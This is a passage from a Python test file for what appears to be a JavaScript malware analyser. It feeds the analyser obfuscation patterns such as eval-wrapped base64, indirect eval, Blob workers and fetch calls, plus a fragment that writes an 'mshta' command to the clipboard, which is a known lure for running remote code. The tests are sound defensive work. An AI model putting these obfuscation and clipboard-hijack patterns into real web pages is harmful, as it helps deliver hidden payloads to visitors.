    code = read(f"var a=eval('('+decodeURIComponent(escape(atob({b64('[1]')!r})))+')')", "s")
    assert code is None or "eval" not in code.traits


def test_jquery_makes_frames() -> None:
    source = "$('<iframe>',{src:'https://a.test/f',width:1}).appendTo('body')"
    assert 'src="https://a.test/f"' in writes(source)


@pytest.mark.parametrize(
    "text",
    [
        "x+=String.fromCharCode(y),",
        "fetch(",
        "fetch(a.value,",
        "new Blob(['",
        "new Worker(new Blob(['new Blob([]);']));",
        "a.click();",
        "f.elements[",
        "[].constructor(x)(",
        "(0,eval)(",
        "navigator.clipboard.writeText('mshta //",
    ],
)
def test_what_is_looked_at_round_calls_is_bounded(text: str) -> None:
    read(text * (1_000_000 // len(text)), "script")
